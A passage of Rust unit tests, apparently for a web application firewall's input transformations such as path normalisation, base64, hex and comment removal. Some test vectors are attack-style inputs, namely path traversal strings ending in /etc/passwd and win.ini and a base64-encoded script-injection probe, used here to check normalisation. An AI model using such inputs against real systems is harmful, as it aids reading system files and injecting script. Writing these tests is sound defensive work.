            b"Before /* TestCase */ After",
            b"Before  TestCase  After",
        );
        check(
            T::RemoveCommentsChar,
            b"Test\r\nCase */After",
            b"Test\r\nCase After",
        );
        check(T::RemoveCommentsChar, b"a<!--b-->c--d#e", b"abcde");
    }

    #[test]
    fn normalise_path_vectors() {
        // The secrules-language-tests vectors for both transformations.
        for (t, i, o) in [
            (T::NormalisePath, &b""[..], &b""[..]),
            (T::NormalisePath, &b"/foo/bar/baz"[..], &b"/foo/bar/baz"[..]),
            (
                T::NormalisePath,
                &b"/foo/bar\0/baz"[..],
                &b"/foo/bar\0/baz"[..],
            ),
            (T::NormalisePath, &b"x"[..], &b"x"[..]),
            (T::NormalisePath, &b"."[..], &b""[..]),
            (T::NormalisePath, &b"./"[..], &b""[..]),
            (T::NormalisePath, &b"./.."[..], &b".."[..]),
            (T::NormalisePath, &b"./../"[..], &b"../"[..]),
            (T::NormalisePath, &b".."[..], &b".."[..]),
            (T::NormalisePath, &b"../"[..], &b"../"[..]),
            (T::NormalisePath, &b"../."[..], &b".."[..]),
            (T::NormalisePath, &b".././"[..], &b"../"[..]),
            (T::NormalisePath, &b"../.."[..], &b"../.."[..]),
            (T::NormalisePath, &b"../../"[..], &b"../../"[..]),
            (
                T::NormalisePath,
                &b"/dir/foo//bar"[..],
                &b"/dir/foo/bar"[..],
            ),
            (
                T::NormalisePath,
                &b"dir/foo//bar/"[..],
                &b"dir/foo/bar/"[..],
            ),
            (T::NormalisePath, &b"dir/../foo"[..], &b"foo"[..]),
            (T::NormalisePath, &b"dir/../../foo"[..], &b"../foo"[..]),
            (
                T::NormalisePath,
                &b"dir/./.././../../foo/bar"[..],
                &b"../../foo/bar"[..],
            ),
            (
                T::NormalisePath,
                &b"dir/./.././../../foo/bar/."[..],
                &b"../../foo/bar"[..],
            ),
            (
                T::NormalisePath,
                &b"dir/./.././../../foo/bar/./"[..],
                &b"../../foo/bar/"[..],
            ),
            (
                T::NormalisePath,
                &b"dir/./.././../../foo/bar/.."[..],
                &b"../../foo"[..],
            ),
            (
                T::NormalisePath,
                &b"dir/./.././../../foo/bar/../"[..],
                &b"../../foo/"[..],
            ),
            (
                T::NormalisePath,
                &b"dir/./.././../../foo/bar/"[..],
                &b"../../foo/bar/"[..],
            ),
            (
                T::NormalisePath,
                &b"dir//.//..//.//..//..//foo//bar"[..],
                &b"../../foo/bar"[..],
            ),
            (
                T::NormalisePath,
                &b"dir//.//..//.//..//..//foo//bar//"[..],
                &b"../../foo/bar/"[..],
            ),
            (
                T::NormalisePath,
                &b"dir/subdir/subsubdir/subsubsubdir/../../.."[..],
                &b"dir"[..],
            ),
            (
                T::NormalisePath,
                &b"dir/./subdir/./subsubdir/./subsubsubdir/../../.."[..],
                &b"dir"[..],
            ),
            (
                T::NormalisePath,
                &b"dir/./subdir/../subsubdir/../subsubsubdir/.."[..],
                &b"dir"[..],
            ),
            (
                T::NormalisePath,
                &b"/dir/./subdir/../subsubdir/../subsubsubdir/../"[..],
                &b"/dir/"[..],
            ),
            (
                T::NormalisePath,
                &b"/./.././../../../../../../../\0/../etc/./passwd"[..],
                &b"/etc/passwd"[..],
            ),
            (T::NormalisePathWin, &b""[..], &b""[..]),
            (
                T::NormalisePathWin,
                &b"\\foo\\bar\\baz"[..],
                &b"/foo/bar/baz"[..],
            ),
            (
                T::NormalisePathWin,
                &b"\\foo\\bar\0\\baz"[..],
                &b"/foo/bar\0/baz"[..],
            ),
            (T::NormalisePathWin, &b"x"[..], &b"x"[..]),
            (T::NormalisePathWin, &b"."[..], &b""[..]),
            (T::NormalisePathWin, &b".\\"[..], &b""[..]),
            (T::NormalisePathWin, &b".\\.."[..], &b".."[..]),
            (T::NormalisePathWin, &b".\\..\\"[..], &b"../"[..]),
            (T::NormalisePathWin, &b".."[..], &b".."[..]),
            (T::NormalisePathWin, &b"..\\"[..], &b"../"[..]),
            (T::NormalisePathWin, &b"..\\."[..], &b".."[..]),
            (T::NormalisePathWin, &b"..\\.\\"[..], &b"../"[..]),
            (T::NormalisePathWin, &b"..\\.."[..], &b"../.."[..]),
            (T::NormalisePathWin, &b"..\\..\\"[..], &b"../../"[..]),
            (
                T::NormalisePathWin,
                &b"\\dir\\foo\\\\bar"[..],
                &b"/dir/foo/bar"[..],
            ),
            (
                T::NormalisePathWin,
                &b"dir\\foo\\\\bar\\"[..],
                &b"dir/foo/bar/"[..],
            ),
            (T::NormalisePathWin, &b"dir\\..\\foo"[..], &b"foo"[..]),
            (
                T::NormalisePathWin,
                &b"dir\\..\\..\\foo"[..],
                &b"../foo"[..],
            ),
            (
                T::NormalisePathWin,
                &b"dir\\.\\..\\.\\..\\..\\foo\\bar"[..],
                &b"../../foo/bar"[..],
            ),
            (
                T::NormalisePathWin,
                &b"dir\\.\\..\\.\\..\\..\\foo\\bar\\."[..],
                &b"../../foo/bar"[..],
            ),
            (
                T::NormalisePathWin,
                &b"dir\\.\\..\\.\\..\\..\\foo\\bar\\.\\"[..],
                &b"../../foo/bar/"[..],
            ),
            (
                T::NormalisePathWin,
                &b"dir\\.\\..\\.\\..\\..\\foo\\bar\\.."[..],
                &b"../../foo"[..],
            ),
            (
                T::NormalisePathWin,
                &b"dir\\.\\..\\.\\..\\..\\foo\\bar\\..\\"[..],
                &b"../../foo/"[..],
            ),
            (
                T::NormalisePathWin,
                &b"dir\\.\\..\\.\\..\\..\\foo\\bar\\"[..],
                &b"../../foo/bar/"[..],
            ),
            (
                T::NormalisePathWin,
                &b"dir\\\\.\\\\..\\\\.\\\\..\\\\..\\\\foo\\\\bar"[..],
                &b"../../foo/bar"[..],
            ),
            (
                T::NormalisePathWin,
                &b"dir\\\\.\\\\..\\\\.\\\\..\\\\..\\\\foo\\\\bar\\\\"[..],
                &b"../../foo/bar/"[..],
            ),
            (
                T::NormalisePathWin,
                &b"dir\\subdir\\subsubdir\\subsubsubdir\\..\\..\\.."[..],
                &b"dir"[..],
            ),
            (
                T::NormalisePathWin,
                &b"dir\\.\\subdir\\.\\subsubdir\\.\\subsubsubdir\\..\\..\\.."[..],
                &b"dir"[..],
            ),
            (
                T::NormalisePathWin,
                &b"dir\\.\\subdir\\..\\subsubdir\\..\\subsubsubdir\\.."[..],
                &b"dir"[..],
            ),
            (
                T::NormalisePathWin,
                &b"\\dir\\.\\subdir\\..\\subsubdir\\..\\subsubsubdir\\..\\"[..],
                &b"/dir/"[..],
            ),
            (
                T::NormalisePathWin,
                &b"\\.\\..\\.\\..\\..\\..\\..\\..\\..\\..\\0\\..\\etc\\.\\passwd"[..],
                &b"/etc/passwd"[..],
            ),
        ] {
            check(t, i, o);
        }
        check(
            T::NormalisePath,
            b"/a/b/c/../../../../etc/passwd",
            b"/etc/passwd",
        );
        check(T::NormalisePath, b"\\foo\\..\\bar", b"\\foo\\..\\bar");
        check(
            T::NormalisePathWin,
            b"c:\\windows\\..\\win.ini",
            b"c:/win.ini",
        );
    }

    #[test]
    fn utf8_to_unicode_vectors() {
        check(T::Utf8ToUnicode, "Ā".as_bytes(), b"%u0100");
        check(
            T::Utf8ToUnicode,
            "aé€😀".as_bytes(),
            b"a%u00e9%u20ac%u1f600",
        );
        check(T::Utf8ToUnicode, b"\xff\xc3", b"\xff\xc3");
    }

    #[test]
    fn base64_vectors() {
        check(T::Base64Decode, b"VGVzdENhc2U=", b"TestCase");
        check(T::Base64Decode, b"VGVzdENhc2Ux", b"TestCase1");
        check(T::Base64Decode, b"VGVzdENhc2UxMg==", b"TestCase12");
        check(T::Base64Decode, b"VGVzdABDYXNl", b"Test\0Case");
        check(T::Base64Decode, b"VGVzdENhc2U=\0VGVzdENhc2U=", b"TestCase");
        check(
            T::Base64DecodeExt,
            b"P.HNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
            b"<script>alert(1)</script>",
        );
        check(T::Base64Encode, b"TestCase", b"VGVzdENhc2U=");
        check(T::Base64Encode, b"TestCase12", b"VGVzdENhc2UxMg==");
    }

    #[test]
    fn hex_vectors() {
        check(T::HexDecode, b"5465737443617365", b"TestCase");
        check(T::HexDecode, b"01234567890az", b"\x01#Eg\x89\x0a");
        check(T::HexDecode, b"01234567890a0", b"\x01#Eg\x89\x0a");
        check(T::HexEncode, b"TestCase", b"5465737443617365");
        check(T::SqlHexDecode, b"0x414243", b"ABC");
        check(T::SqlHexDecode, b"select 0x61 from", b"select a from");
        check(T::SqlHexDecode, b"0x4", b"0x4");
    }

    #[test]
    fn digests_and_length() {
        check(T::Length, b"TestCase", b"8");
        check(T::Length, b"", b"0");
        check(
            T::HexEncode,
            &run(T::Sha1, b"abc"),
            b"a9993e364706816aba3e25717850c26c9cd0d89d",
        );
        check(
            T::HexEncode,
            &run(T::Md5, b"abc"),
            b"900150983cd24fb0d6963f7d28e17f72",
        );
    }

    #[test]
    fn parity_vectors() {
        check(T::ParityZero7bit, b"\xc1\x41", b"AA");
        check(T::ParityEven7bit, b"C", b"\xc3");
        check(T::ParityOdd7bit, b"C", b"C");
    }

    #[test]
    fn lower_upper() {
        check(T::Lowercase, b"TeSt\xc3\x89", b"test\xc3\x89");
        check(T::Uppercase, b"TeSt", b"TEST");
    }
}
